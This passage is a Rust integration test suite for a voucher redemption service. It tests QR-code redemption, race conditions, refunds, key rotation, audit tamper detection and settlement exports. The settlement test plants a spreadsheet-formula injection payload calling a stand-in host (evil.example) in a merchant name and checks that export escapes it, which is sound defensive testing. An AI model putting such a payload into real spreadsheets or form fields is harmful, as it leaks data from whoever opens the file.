//! Redemption at the till through the API: dynamic codes in both
//! directions, at most once per voucher (also with two tills racing, on both
//! backends and across two nodes), refunds, the ledger after each, and the
//! QR images read back by a real scanner (`zbarimg`).

use quan_domain::Role;
use quan_testkit::{TestApp, error_code};
use reqwest::StatusCode;
use serde_json::{Value, json};

use crate::api_merchants::application;

/// A running campaign with one open batch of 满100减20 catering vouchers.
pub(crate) async fn campaign(app: &TestApp) -> (String, String, String) {
    // An hour before the batch opens: staff logged in from here stay so all day.
    at(app, "2026-12-05T09:00:00+08:00");
    let (_, official) = app.staff("yichang.official", Role::Official, "4205").await;
    let doc = json!({
        "campaign": {"name": "餐饮券", "region": "4205", "budget_fen": 1_000_000, "funding_source": "财政", "starts_on": "2026-12-01", "ends_on": "2026-12-31"},
        "batches": [{
            "name": "十点开抢", "opening_at": "2026-12-05T10:00:00+08:00", "closing_at": "2026-12-05T22:00:00+08:00",
            "limits": {"per_batch": 2},
            "kinds": [{"stock": 100, "kind": {"code": "c100-20", "name": "满100减20", "discount": {"type": "threshold", "min_order_fen": 10000, "off_fen": 2000},
                "scope": {"industries": ["catering"]}, "validity": {"type": "days_after_claim", "days": 3}}}]
        }]
    });
    let (status, created) = app.post("/api/v1/campaigns", Some(&official), &doc).await;
    assert_eq!(status, StatusCode::CREATED, "{created}");
    let cid = created["campaign"]["id"].as_str().unwrap_or_default().to_owned();
    let bid = created["batches"][0]["id"].as_str().unwrap_or_default().to_owned();
    app.post(&format!("/api/v1/campaigns/{cid}/funding"), Some(&official), &json!({"amount_fen": 1_000_000})).await;
    app.post(&format!("/api/v1/campaigns/{cid}/start"), Some(&official), &json!({})).await;
    (cid, bid, official)
}

pub(crate) use quan_testkit::fixtures::{Shop, at, resident, shop, shop_from, shop_in};

/// A resident holding one claimed voucher: (token, voucher id).
pub(crate) async fn holder(app: &TestApp, batch: &str, phone: &str) -> (String, String) {
    let token = resident(app, phone).await;
    let (status, c) = app.post(&format!("/api/v1/batches/{batch}/claims"), Some(&token), &json!({})).await;
    assert_eq!(status, StatusCode::CREATED, "{c}");
    (token, c["vouchers"][0]["id"].as_str().unwrap_or_default().to_owned())
}

pub(crate) async fn code_of(app: &TestApp, token: &str, voucher: &str) -> String {
    let (status, c) = app.get(&format!("/api/v1/me/vouchers/{voucher}/code"), Some(token)).await;
    assert_eq!(status, StatusCode::OK, "{c}");
    c["code"].as_str().unwrap_or_default().to_owned()
}

async fn audit(app: &TestApp, official: &str, campaign: &str) -> Value {
    let (_, a) = app.get(&format!("/api/v1/campaigns/{campaign}/audit"), Some(official)).await;
    assert_eq!(a["clean"], true, "{a}");
    a
}

#[tokio::test]
async fn a_cashier_redeems_a_scanned_code_once_and_the_ledger_moves_the_subsidy_to_the_merchant() {
    let app = TestApp::sqlite().await;
    let (cid, bid, official) = campaign(&app).await;
    let Shop { id: mid, cashier, .. } = shop(&app, 1, "catering").await;
    at(&app, "2026-12-05T10:00:00+08:00");
    let (token, voucher) = holder(&app, &bid, "13700000001").await;
    let code = code_of(&app, &token, &voucher).await;
    assert_eq!(code.len(), 56);

    let (status, body) =
        app.post("/api/v1/redemptions", Some(&cashier), &json!({"code": code, "order_amount_fen": 9_999})).await;
    assert_eq!((status, error_code(&body)), (StatusCode::UNPROCESSABLE_ENTITY, "threshold_not_met"), "{body}");
    let (status, r) = app
        .post(
            "/api/v1/redemptions",
            Some(&cashier),
            &json!({"code": code, "order_amount_fen": 12_800, "order_ref": "A-1"}),
        )
        .await;
    assert_eq!(status, StatusCode::CREATED, "{r}");
    assert_eq!(
        (r["discount_fen"].as_i64(), r["resident_pays_fen"].as_i64(), r["subsidy_fen"].as_i64()),
        (Some(2000), Some(10_800), Some(2000))
    );
    assert_eq!(r["merchant_id"], mid.as_str());
    let (status, body) =
        app.post("/api/v1/redemptions", Some(&cashier), &json!({"code": code, "order_amount_fen": 12_800})).await;
    assert_eq!((status, error_code(&body)), (StatusCode::CONFLICT, "already_redeemed"), "a replay says so");
    let (_, wallet) = app.get("/api/v1/me/vouchers", Some(&token)).await;
    assert_eq!(wallet[0]["state"], "redeemed", "{wallet}");
    assert_eq!(wallet[0]["kind_name"], "满100减20", "{wallet}");
    assert_eq!(wallet[0]["discount"]["min_order_fen"], 10_000, "{wallet}");
    assert_eq!(wallet[0]["scope"]["industries"][0], "catering", "{wallet}");
    assert_eq!(
        (wallet[0]["valid_from"].as_str(), wallet[0]["valid_until"].as_str()),
        (Some("2026-12-05"), Some("2026-12-08")),
        "{wallet}"
    );
    let a = audit(&app, &official, &cid).await;
    assert_eq!(a["payable_fen"], "2000", "{a}");
    assert_eq!(a["reserved_fen"], "0", "{a}");

    // A forged or stale code is refused by name.
    let (_, v2) = app.post(&format!("/api/v1/batches/{bid}/claims"), Some(&token), &json!({})).await;
    let v2 = v2["vouchers"][0]["id"].as_str().unwrap_or_default().to_owned();
    let stale = code_of(&app, &token, &v2).await;
    let mut forged: Vec<char> = stale.chars().collect();
    forged[50] = if forged[50] == 'A' { 'B' } else { 'A' };
    let forged: String = forged.into_iter().collect();
    let (status, body) =
        app.post("/api/v1/redemptions", Some(&cashier), &json!({"code": forged, "order_amount_fen": 12_800})).await;
    assert_eq!((status, error_code(&body)), (StatusCode::UNPROCESSABLE_ENTITY, "code_not_genuine"), "{body}");
    app.clock.advance(chrono::Duration::seconds(36));
    let (status, body) =
        app.post("/api/v1/redemptions", Some(&cashier), &json!({"code": stale, "order_amount_fen": 12_800})).await;
    assert_eq!((status, error_code(&body)), (StatusCode::CONFLICT, "code_expired"), "{body}");
    let fresh = code_of(&app, &token, &v2).await;
    assert_ne!(fresh, stale, "the code refreshed");
    // The same order takes no second one-per-order voucher.
    let (status, body) = app
        .post(
            "/api/v1/redemptions",
            Some(&cashier),
            &json!({"code": fresh, "order_amount_fen": 12_800, "order_ref": "A-1"}),
        )
        .await;
    assert_eq!((status, error_code(&body)), (StatusCode::UNPROCESSABLE_ENTITY, "one_per_order"), "{body}");
}

#[tokio::test]
async fn a_voucher_is_refused_outside_its_scope_and_at_a_suspended_merchant() {
    let app = TestApp::sqlite().await;
    let (_, bid, _) = campaign(&app).await;
    let Shop { cashier: retail_cashier, .. } = shop(&app, 2, "retail").await;
    let Shop { id: mid, cashier, cashier_pw, .. } = shop(&app, 3, "catering").await;
    at(&app, "2026-12-05T10:00:00+08:00");
    let (token, voucher) = holder(&app, &bid, "13700000002").await;
    let code = code_of(&app, &token, &voucher).await;
    let (status, body) = app
        .post("/api/v1/redemptions", Some(&retail_cashier), &json!({"code": code, "order_amount_fen": 20_000}))
        .await;
    assert_eq!((status, error_code(&body)), (StatusCode::UNPROCESSABLE_ENTITY, "industry_out_of_scope"), "{body}");
    let (_, op) = app.staff("yichang.suspender", Role::Operator, "4205").await;
    app.post(
        &format!("/api/v1/merchants/{mid}/review"),
        Some(&op),
        &json!({"action": "suspend", "reason": "疑似套现"}),
    )
    .await;
    let (status, body) =
        app.post("/api/v1/redemptions", Some(&cashier), &json!({"code": code, "order_amount_fen": 20_000})).await;
    assert_eq!((status, error_code(&body)), (StatusCode::FORBIDDEN, "merchant_suspended"), "{body}");
    // Three days after the claim day the voucher is past its validity.
    at(&app, "2026-12-09T00:00:01+08:00");
    let (_, op2) = app.staff("yichang.reinstater", Role::Operator, "4205").await;
    app.post(&format!("/api/v1/merchants/{mid}/review"), Some(&op2), &json!({"action": "reinstate"})).await;
    let token = resident_again(&app, "13700000002").await;
    let code = code_of(&app, &token, &voucher).await;
    let cashier = app.login("cashier3", &cashier_pw).await;
    let (status, body) =
        app.post("/api/v1/redemptions", Some(&cashier), &json!({"code": code, "order_amount_fen": 20_000})).await;
    assert_eq!((status, error_code(&body)), (StatusCode::CONFLICT, "voucher_expired"), "{body}");
}

async fn resident_again(app: &TestApp, phone: &str) -> String {
    app.clock.advance(chrono::Duration::minutes(2));
    resident(app, phone).await
}

#[tokio::test]
async fn a_resident_scans_the_tills_code_and_the_till_sees_the_redemption() {
    let app = TestApp::sqlite().await;
    let (cid, bid, official) = campaign(&app).await;
    let Shop { till, owner, cashier, .. } = shop(&app, 4, "catering").await;
    at(&app, "2026-12-05T12:00:00+08:00");
    let (token, voucher) = holder(&app, &bid, "13700000004").await;
    let (status, tc) = app.get(&format!("/api/v1/tills/{till}/code"), Some(&cashier)).await;
    assert_eq!(status, StatusCode::OK, "{tc}");
    let till_code = tc["code"].as_str().unwrap_or_default().to_owned();
    let (status, _) = app.get(&format!("/api/v1/tills/{till}/code"), Some(&token)).await;
    assert_eq!(status, StatusCode::FORBIDDEN);
    let (status, body) =
        app.post("/api/v1/me/redemptions", Some(&token), &json!({"code": till_code, "order_amount_fen": 15_000})).await;
    assert_eq!(
        (status, error_code(&body)),
        (StatusCode::UNPROCESSABLE_ENTITY, "invalid_field"),
        "voucher_id is needed: {body}"
    );
    let (status, r) = app
        .post(
            "/api/v1/me/redemptions",
            Some(&token),
            &json!({"code": till_code, "order_amount_fen": 15_000, "voucher_id": voucher}),
        )
        .await;
    assert_eq!(status, StatusCode::CREATED, "{r}");
    assert_eq!(r["direction"], "merchant_shows");
    let (_, seen) = app.get(&format!("/api/v1/tills/{till}/redemptions"), Some(&cashier)).await;
    assert_eq!(seen.as_array().map(Vec::len), Some(1), "{seen}");
    assert_eq!(seen[0]["id"], r["id"]);
    assert_eq!(seen[0]["resident_pays_fen"], 13_000);
    // A voucher code is not a till code.
    let (_, v2) = app.post(&format!("/api/v1/batches/{bid}/claims"), Some(&token), &json!({})).await;
    let v2 = v2["vouchers"][0]["id"].as_str().unwrap_or_default().to_owned();
    let vcode = code_of(&app, &token, &v2).await;
    let (status, body) = app
        .post(
            "/api/v1/me/redemptions",
            Some(&token),
            &json!({"code": vcode, "order_amount_fen": 15_000, "voucher_id": v2}),
        )
        .await;
    assert_eq!((status, error_code(&body)), (StatusCode::UNPROCESSABLE_ENTITY, "wrong_code_type"), "{body}");

    // Refunds: partial keeps the threshold, then below it loses the 20; idempotent.
    let rid = r["id"].as_str().unwrap_or_default().to_owned();
    let refund = |amount: i64, key: &'static str| {
        let app = &app;
        let owner = owner.clone();
        let rid = rid.clone();
        async move {
            let res = app
                .client
                .post(app.url(&format!("/api/v1/redemptions/{rid}/refunds")))
                .bearer_auth(&owner)
                .header("Idempotency-Key", key)
                .json(&json!({"amount_fen": amount}))
                .send()
                .await
                .unwrap_or_else(|e| panic!("{e}"));
            let status = res.status();
            (status, res.json::<Value>().await.unwrap_or_default())
        }
    };
    let (status, f) = refund(3_000, "r1").await;
    assert_eq!(status, StatusCode::CREATED, "{f}");
    assert_eq!(
        (f["refund"]["subsidy_returned_fen"].as_i64(), f["redemption"]["subsidy_fen"].as_i64()),
        (Some(0), Some(2000))
    );
    let (status, again) = refund(3_000, "r1").await;
    assert_eq!(
        (status, &again["refund"]["id"]),
        (StatusCode::CREATED, &f["refund"]["id"]),
        "a retry is the same refund"
    );
    let (status, f) = refund(3_000, "r2").await;
    assert_eq!(status, StatusCode::CREATED, "{f}");
    assert_eq!(
        (f["refund"]["subsidy_returned_fen"].as_i64(), f["redemption"]["subsidy_fen"].as_i64()),
        (Some(2000), Some(0)),
        "90 < 100"
    );
    let (status, body) = refund(10_000, "r3").await;
    assert_eq!(
        (status, error_code(&body)),
        (StatusCode::UNPROCESSABLE_ENTITY, "bad_refund_amount"),
        "only 90 is left: {body}"
    );
    let (status, f) = refund(9_000, "r4").await;
    assert_eq!(status, StatusCode::CREATED, "{f}");
    assert_eq!(f["refund"]["voucher_back"], true, "a full refund inside validity returns the voucher");
    let (_, wallet) = app.get("/api/v1/me/vouchers", Some(&token)).await;
    assert!(
        wallet.as_array().is_some_and(|w| w.iter().any(|v| v["id"] == voucher.as_str() && v["state"] == "claimed")),
        "{wallet}"
    );
    let (_, list) = app.get(&format!("/api/v1/redemptions/{rid}/refunds"), Some(&owner)).await;
    assert_eq!(list.as_array().map(Vec::len), Some(3));
    let a = audit(&app, &official, &cid).await;
    assert_eq!((a["payable_fen"].as_str(), a["reserved_fen"].as_str()), (Some("0"), Some("4000")), "{a}");
}

async fn two_tills_race(app: &TestApp, other: &TestApp) {
    at(other, "2026-12-05T09:00:00+08:00");
    let (cid, bid, official) = campaign(app).await;
    let c1 = shop(app, 5, "catering").await.cashier;
    // A cashier of another merchant, logged in on the other node.
    let c2 = other.login("cashier6", &shop(app, 6, "catering").await.cashier_pw).await;
    at(app, "2026-12-05T12:00:00+08:00");
    at(other, "2026-12-05T12:00:00+08:00");
    for i in 0..10 {
        let (token, voucher) = holder(app, &bid, &format!("1370001{i:04}")).await;
        let code = code_of(app, &token, &voucher).await;
        let body = json!({"code": code, "order_amount_fen": 10_000});
        let (a, b) = tokio::join!(
            app.post("/api/v1/redemptions", Some(&c1), &body),
            other.post("/api/v1/redemptions", Some(&c2), &body)
        );
        let created = [a.0, b.0].iter().filter(|s| **s == StatusCode::CREATED).count();
        assert_eq!(created, 1, "exactly one till wins: {a:?} {b:?}");
        let loser = if a.0 == StatusCode::CREATED { &b } else { &a };
        assert_eq!((loser.0, error_code(&loser.1)), (StatusCode::CONFLICT, "already_redeemed"), "{loser:?}");
    }
    let a = audit(app, &official, &cid).await;
    assert_eq!(a["payable_fen"], "20000", "{a}");
}

#[tokio::test]
async fn two_tills_sending_the_same_code_at_once_redeem_it_once_on_sqlite() {
    let app = TestApp::sqlite().await;
    two_tills_race(&app, &app).await;
}

#[tokio::test]
async fn two_tills_on_two_nodes_sending_the_same_code_at_once_redeem_it_once_on_postgresql() {
    let Some(app) = TestApp::postgres().await else { return };
    let Some(node2) = app.second_node().await else { return };
    two_tills_race(&app, &node2).await;
}

fn scanner_available() -> bool {
    let ci = std::env::var("CI").is_ok_and(|v| v == "true" || v == "1");
    let ok = std::process::Command::new("zbarimg").arg("--version").output().is_ok()
        && std::process::Command::new("rsvg-convert").arg("--version").output().is_ok();
    if !ok {
        assert!(!ci, "CI=true: zbarimg (zbar-tools) and rsvg-convert (librsvg2-bin) must be installed");
        eprintln!("SKIPPED: zbarimg or rsvg-convert missing (apt-get install zbar-tools librsvg2-bin)");
    }
    ok
}

fn zbar(path: &std::path::Path) -> String {
    let out = std::process::Command::new("zbarimg")
        .args(["--quiet", "--raw", "-Sdisable", "-Sqrcode.enable"])
        .arg(path)
        .output()
        .unwrap_or_else(|e| panic!("{e}"));
    assert!(out.status.success(), "zbarimg failed on {}: {}", path.display(), String::from_utf8_lossy(&out.stderr));
    String::from_utf8_lossy(&out.stdout).trim().to_owned()
}

#[tokio::test]
async fn every_png_and_svg_code_reads_back_with_zbarimg_as_the_text_the_api_returned() {
    if !scanner_available() {
        return;
    }
    let app = TestApp::sqlite().await;
    let (_, bid, _) = campaign(&app).await;
    let Shop { till, cashier, .. } = shop(&app, 7, "catering").await;
    at(&app, "2026-12-05T10:00:00+08:00");
    let (token, voucher) = holder(&app, &bid, "13700000007").await;
    let dir = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
    for (i, (path, who)) in
        [(format!("/api/v1/me/vouchers/{voucher}/code"), &token), (format!("/api/v1/tills/{till}/code"), &cashier)]
            .iter()
            .enumerate()
    {
        for step in 0..3 {
            app.clock.advance(chrono::Duration::seconds(31 * step));
            let (_, json) = app.get(path, Some(who)).await;
            let text = json["code"].as_str().unwrap_or_default().to_owned();
            for format in ["png", "svg"] {
                let res = app
                    .client
                    .get(app.url(&format!("{path}?format={format}")))
                    .bearer_auth(who)
                    .send()
                    .await
                    .unwrap_or_else(|e| panic!("{e}"));
                assert_eq!(res.status(), StatusCode::OK);
                let header =
                    res.headers().get("x-quan-code").and_then(|v| v.to_str().ok()).unwrap_or_default().to_owned();
                assert_eq!(header, text, "the image is of the current code");
                let bytes = res.bytes().await.unwrap_or_default();
                let file = dir.path().join(format!("{i}-{step}.{format}"));
                std::fs::write(&file, &bytes).unwrap_or_else(|e| panic!("{e}"));
                let image = if format == "svg" {
                    let png = dir.path().join(format!("{i}-{step}.svg.png"));
                    let st = std::process::Command::new("rsvg-convert")
                        .arg("--background-color=white")
                        .arg("-o")
                        .arg(&png)
                        .arg(&file)
                        .status()
                        .unwrap_or_else(|e| panic!("{e}"));
                    assert!(st.success());
                    png
                } else {
                    file
                };
                assert_eq!(zbar(&image), text, "{format} of {path}");
            }
        }
    }
}

/// An engine on the test's database and clock with its own code settings,
/// as another node after a key rotation would be.
fn node_with_codes(app: &TestApp, codes: quan_engine::redemptions::CodeConfig) -> quan_engine::Engine {
    quan_engine::Engine::new(quan_engine::EngineParts {
        store: app.store.clone(),
        clock: app.clock.clone(),
        random: std::sync::Arc::new(quan_engine::SystemRandom),
        sms: app.sms.clone(),
        pii_key: quan_engine::PiiKey::from_bytes([0x42; 32]),
        config: quan_engine::EngineConfig { codes, ..quan_engine::EngineConfig::default() },
    })
}

#[tokio::test]
async fn after_a_key_rotation_old_codes_verify_until_the_old_key_retires_and_sm3_works_the_same() {
    use quan_domain::code::MacAlgorithm;
    use quan_engine::redemptions::{CodeConfig, OrderInput};
    let app = TestApp::sqlite().await;
    let (_, bid, _) = campaign(&app).await;
    let Shop { cashier, .. } = shop(&app, 8, "catering").await;
    at(&app, "2026-12-05T10:00:00+08:00");
    let (token, voucher) = holder(&app, &bid, "13700000008").await;
    let (_, v2) = app.post(&format!("/api/v1/batches/{bid}/claims"), Some(&token), &json!({})).await;
    let v2: uuid::Uuid = v2["vouchers"][0]["id"].as_str().and_then(|s| s.parse().ok()).unwrap_or_default();
    let voucher: uuid::Uuid = voucher.parse().unwrap_or_default();
    let retires = app.engine.now() + chrono::Duration::seconds(60);
    let old = node_with_codes(&app, CodeConfig { key_id: 1, ..CodeConfig::default() });
    let new =
        node_with_codes(&app, CodeConfig { key_id: 2, retiring_keys: vec![(1, retires)], ..CodeConfig::default() });
    let resident = old.authenticate(Some(&token)).await.unwrap_or_else(|e| panic!("{e}"));
    let till = new.authenticate(Some(&cashier)).await.unwrap_or_else(|e| panic!("{e}"));
    let order = || OrderInput { amount: quan_domain::Fen::new(10_000), ..OrderInput::default() };
    let code = old.voucher_code(&resident, voucher).await.unwrap_or_else(|e| panic!("{e}")).code;
    new.redeem_scanned(&till, &code, order()).await.unwrap_or_else(|e| panic!("signed by the retiring key: {e}"));
    app.clock.advance(chrono::Duration::seconds(61));
    let late = old.voucher_code(&resident, v2).await.unwrap_or_else(|e| panic!("{e}")).code;
    let e = new.redeem_scanned(&till, &late, order()).await.err().map(|e| quan_engine::Rejection::code(&e));
    assert_eq!(e, Some("code_not_genuine"), "the old key has retired");
    let fresh = new.voucher_code(&resident, v2).await.unwrap_or_else(|e| panic!("{e}")).code;
    assert!(old.redeem_scanned(&till, &fresh, order()).await.is_err(), "a node without key 2 cannot verify its codes");

    // HMAC-SM3 deployments: codes made and checked with SM3; a SHA-256 node refuses them.
    let sm3 =
        node_with_codes(&app, CodeConfig { algorithm: MacAlgorithm::HmacSm3, key_id: 2, ..CodeConfig::default() });
    let c = sm3.voucher_code(&resident, v2).await.unwrap_or_else(|e| panic!("{e}")).code;
    assert!(new.redeem_scanned(&till, &c, order()).await.is_err());
    sm3.redeem_scanned(&till, &c, order()).await.unwrap_or_else(|e| panic!("SM3: {e}"));
}

#[tokio::test]
async fn a_node_that_issued_a_code_answers_from_the_database_once_the_voucher_changed_on_another_node() {
    use quan_engine::redemptions::{CodeConfig, OrderInput};
    let app = TestApp::sqlite().await;
    let (cid, bid, _) = campaign(&app).await;
    let Shop { cashier, .. } = shop(&app, 10, "catering").await;
    at(&app, "2026-12-05T12:00:00+08:00");
    let (token, voucher) = holder(&app, &bid, "13700000041").await;
    let (token2, voucher2) = holder(&app, &bid, "13700000042").await;
    let id = |s: &str| s.parse::<uuid::Uuid>().unwrap_or_default();
    // Two nodes on one database; node A issues the codes (and so remembers
    // the vouchers as `claimed`), node B changes them.
    let a = node_with_codes(&app, CodeConfig::default());
    let b = node_with_codes(&app, CodeConfig::default());
    let who = |node: &quan_engine::Engine, token: &str| {
        let (node, token) = (node.clone(), token.to_owned());
        async move { node.authenticate(Some(&token)).await.unwrap_or_else(|e| panic!("{e}")) }
    };
    let (resident, resident2) = (who(&a, &token).await, who(&a, &token2).await);
    let (till_a, till_b) = (who(&a, &cashier).await, who(&b, &cashier).await);
    let order = || OrderInput { amount: quan_domain::Fen::new(10_000), ..OrderInput::default() };
    let refusal = |r: Result<quan_store::Redemption, quan_engine::redemptions::RedemptionError>| {
        r.err().map(|e| quan_engine::Rejection::code(&e))
    };

    let code = a.voucher_code(&resident, id(&voucher)).await.unwrap_or_else(|e| panic!("{e}")).code;
    b.redeem_scanned(&till_b, &code, order()).await.unwrap_or_else(|e| panic!("used on node B: {e}"));
    // Not "threshold not met", which A's memory of a claimed voucher would say.
    let small = OrderInput { amount: quan_domain::Fen::new(5_000), ..OrderInput::default() };
    assert_eq!(refusal(a.redeem_scanned(&till_a, &code, small).await), Some("already_redeemed"));
    assert_eq!(refusal(a.redeem_scanned(&till_a, &code, order()).await), Some("already_redeemed"));

    // Expired by the nightly job on B while A remembers it as claimed: A
    // gives the answer B gives, not the one its memory would.
    at(&app, "2026-12-08T23:59:58+08:00");
    let code2 = a.voucher_code(&resident2, id(&voucher2)).await.unwrap_or_else(|e| panic!("{e}")).code;
    at(&app, "2026-12-09T00:00:02+08:00");
    let campaign_id: quan_domain::CampaignId = cid.parse().unwrap_or_else(|e| panic!("{e:?}"));
    assert_eq!(b.expire_campaign(campaign_id).await.map(|e| e.vouchers).ok(), Some(1));
    let from_b = refusal(b.redeem_scanned(&till_b, &code2, order()).await);
    assert_eq!(from_b, Some("voucher_expired"));
    assert_eq!(refusal(a.redeem_scanned(&till_a, &code2, order()).await), from_b);
    let (_, auditor) = app.staff("yichang.cache.audit", Role::Auditor, "4205").await;
    let a = audit(&app, &auditor, &cid).await;
    assert_eq!((a["payable_fen"].as_str(), a["reserved_fen"].as_str()), (Some("2000"), Some("0")), "{a}");
}

#[tokio::test]
async fn a_disabled_cashier_is_refused_at_once_on_this_node_and_on_another_within_the_cache_window() {
    use quan_engine::redemptions::CodeConfig;
    let app = TestApp::sqlite().await;
    at(&app, "2026-12-05T09:00:00+08:00");
    let s = shop(&app, 11, "catering").await;
    let other = node_with_codes(&app, CodeConfig::default());
    assert!(other.authenticate(Some(&s.cashier)).await.is_ok(), "remembered on the other node");
    let (status, me) = app.get("/api/v1/me", Some(&s.cashier)).await;
    assert_eq!(status, StatusCode::OK, "{me}");
    let cashier_id = me["id"].as_str().unwrap_or_default().to_owned();
    // The owner of another shop may not; the cashier's own owner may.
    let t = shop(&app, 12, "catering").await;
    let (status, body) = app.post(&format!("/api/v1/users/{cashier_id}/disable"), Some(&t.owner), &json!({})).await;
    assert_eq!((status, error_code(&body)), (StatusCode::NOT_FOUND, "not_found"), "{body}");
    let (status, body) = app.post(&format!("/api/v1/users/{cashier_id}/disable"), Some(&s.owner), &json!({})).await;
    assert_eq!(status, StatusCode::OK, "{body}");
    assert_eq!(app.get("/api/v1/me", Some(&s.cashier)).await.0, StatusCode::UNAUTHORIZED, "here: at once");
    app.clock.advance(chrono::Duration::seconds(4));
    assert!(other.authenticate(Some(&s.cashier)).await.is_ok(), "there: inside the 5 s window");
    app.clock.advance(chrono::Duration::seconds(1));
    assert!(other.authenticate(Some(&s.cashier)).await.is_err(), "there: after the window");
}

#[tokio::test]
async fn the_audit_names_a_redemption_whose_subsidy_or_voucher_state_was_tampered_with() {
    let app = TestApp::sqlite().await;
    let (cid, bid, official) = campaign(&app).await;
    let Shop { cashier, .. } = shop(&app, 9, "catering").await;
    at(&app, "2026-12-05T10:00:00+08:00");
    let (token, voucher) = holder(&app, &bid, "13700000009").await;
    let code = code_of(&app, &token, &voucher).await;
    let (status, _) =
        app.post("/api/v1/redemptions", Some(&cashier), &json!({"code": code, "order_amount_fen": 10_000})).await;
    assert_eq!(status, StatusCode::CREATED);
    audit(&app, &official, &cid).await;
    app.exec_sql("UPDATE redemptions SET subsidy_fen = 1500").await;
    let (_, a) = app.get(&format!("/api/v1/campaigns/{cid}/audit"), Some(&official)).await;
    assert_eq!(a["clean"], false);
    assert!(a.to_string().contains("merchant_payable_differs_from_redemptions"), "{a}");
    app.exec_sql("UPDATE redemptions SET subsidy_fen = 2000").await;
    app.exec_sql("UPDATE redemptions SET state = 'reversed'").await;
    let (_, a) = app.get(&format!("/api/v1/campaigns/{cid}/audit"), Some(&official)).await;
    assert!(a.to_string().contains("voucher_state_differs_from_history"), "{a}");
}

#[tokio::test]
async fn a_day_is_settled_once_suspended_merchants_are_held_and_the_banks_confirmation_is_checked() {
    use quan_engine::settlement::Confirmation;
    let app = TestApp::sqlite().await;
    let (cid, bid, official) = campaign(&app).await;
    // The good merchant's legal name is a spreadsheet formula: the bank's files must show it as text.
    let mut formula = application(10, "420502");
    formula["application"]["legal_name"] = json!("=HYPERLINK(\"http://evil.example/?\"&A2,\"查看\")");
    let Shop { id: good, cashier: c1, owner: o1, .. } = crate::api_redemptions::shop_from(&app, 10, &formula).await;
    let Shop { id: bad, cashier: c2, .. } = shop(&app, 11, "catering").await;
    at(&app, "2026-12-05T12:00:00+08:00");
    let mut redemption_ids = Vec::new();
    for (i, cashier) in [&c1, &c1, &c2].iter().enumerate() {
        let (token, voucher) = holder(&app, &bid, &format!("1370002{i:04}")).await;
        let code = code_of(&app, &token, &voucher).await;
        let (status, r) =
            app.post("/api/v1/redemptions", Some(cashier), &json!({"code": code, "order_amount_fen": 12_000})).await;
        assert_eq!(status, StatusCode::CREATED, "{r}");
        redemption_ids.push(r["id"].as_str().unwrap_or_default().to_owned());
    }
    // One of the good merchant's orders is refunded below the threshold the same day.
    let (status, f) = app
        .post(&format!("/api/v1/redemptions/{}/refunds", redemption_ids[1]), Some(&o1), &json!({"amount_fen": 5_000}))
        .await;
    assert_eq!(status, StatusCode::CREATED, "{f}");
    let (_, op) = app.staff("yichang.settle.op", Role::Operator, "4205").await;
    app.post(
        &format!("/api/v1/merchants/{bad}/review"),
        Some(&op),
        &json!({"action": "suspend", "reason": "疑似套现"}),
    )
    .await;

    let early = app.engine.settle(chrono::NaiveDate::from_ymd_opt(2026, 12, 5).unwrap_or_default()).await;
    assert!(early.is_err(), "the day is not over yet");
    at(&app, "2026-12-06T01:00:00+08:00");
    let day = chrono::NaiveDate::from_ymd_opt(2026, 12, 5).unwrap_or_default();
    let run = app.engine.settle(day).await.unwrap_or_else(|e| panic!("{e}"));
    assert_eq!(run.new.len(), 2);
    let by = |m: &str| run.all.iter().find(|(s, _)| s.merchant_id.to_string() == m).cloned();
    let (paid, line) = by(&good).unwrap_or_else(|| panic!("good merchant settled"));
    assert_eq!((paid.status.as_str(), paid.amount.as_i64()), ("paid", 2000), "20 earned twice, 20 refunded");
    assert_eq!(line.map(|l| l.account_number), Some("6222020200112233".into()));
    let (held, line) = by(&bad).unwrap_or_else(|| panic!("bad merchant recorded"));
    assert_eq!((held.status.as_str(), held.amount.as_i64(), line), ("held", 2000, None));
    assert!(held.hold_reason.contains("疑似套现"), "{}", held.hold_reason);
    let again = app.engine.settle(day).await.unwrap_or_else(|e| panic!("{e}"));
    assert!(again.new.is_empty(), "running a day twice pays nothing twice");
    let st = |m: &str| again.statements.iter().find(|s| s.merchant_id.to_string() == m).cloned();
    let g = st(&good).unwrap_or_else(|| panic!("statement of the good merchant"));
    assert_eq!(
        (g.redemptions, g.discount, g.refunds, g.subsidy_returned, g.settled.as_i64(), g.status.as_str()),
        (2, 4000, 1, 2000, 2000, "paid")
    );
    let b = st(&bad).unwrap_or_else(|| panic!("statement of the held merchant"));
    assert_eq!((b.redemptions, b.settled.as_i64(), b.status.as_str()), (1, 2000, "held"));
    let dir = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
    let (csv, xlsx) = quan::commands::settle::write_payout(&again, dir.path()).unwrap_or_else(|e| panic!("{e}"));
    let csv = std::fs::read_to_string(csv).unwrap_or_default();
    let statement = std::fs::read_to_string(dir.path().join("statement-2026-12-05.csv")).unwrap_or_default();
    assert_eq!(statement.lines().count(), 3, "both merchants, held one included: {statement}");
    assert_eq!(csv.lines().count(), 2, "the header and the one merchant paid (the held one is not sent): {csv}");
    assert!(csv.starts_with("\u{feff}settlement_id,") && statement.starts_with('\u{feff}'), "UTF-8 BOM first");
    for file in [&csv, &statement] {
        let mut r = csv::Reader::from_reader(file.as_bytes());
        let names: Vec<String> = r
            .records()
            .filter_map(Result::ok)
            .filter_map(|rec| rec.iter().find(|c| c.contains("HYPERLINK")).map(String::from))
            .collect();
        assert_eq!(names, ["'=HYPERLINK(\"http://evil.example/?\"&A2,\"查看\")"], "shown as text, not run: {file}");
    }
    let paid_row = csv.lines().nth(1).unwrap_or_default();
    assert!(
        paid_row.contains(",6222020200112233,2000,20.00"),
        "account and amounts as the bank reads them: {paid_row}"
    );
    {
        use calamine::Reader;
        let mut wb: calamine::Xlsx<_> = calamine::open_workbook(&xlsx).unwrap_or_else(|e| panic!("{e}"));
        let sheet = wb.worksheet_range("付款").unwrap_or_else(|e| panic!("{e}"));
        let row: Vec<String> =
            sheet.rows().nth(1).map(|r| r.iter().map(|c| c.to_string()).collect()).unwrap_or_default();
        assert_eq!((row[7].as_str(), row[8].as_str()), ("6222020200112233", "2000"), "{row:?}");
    }
    drop(official);
    let (_, auditor) = app.staff("yichang.settle.audit", Role::Auditor, "4205").await;
    let a = audit(&app, &auditor, &cid).await;
    assert_eq!(
        (a["paid_fen"].as_str(), a["payable_fen"].as_str(), a["held_fen"].as_str()),
        (Some("2000"), Some("0"), Some("2000")),
        "the suspended merchant's subsidy moved to its held account: {a}"
    );

    let unknown = uuid::Uuid::now_v7();
    let c = app
        .engine
        .confirm_payouts(&[
            (paid.id, quan_domain::Fen::new(2000), "B-1".into()),
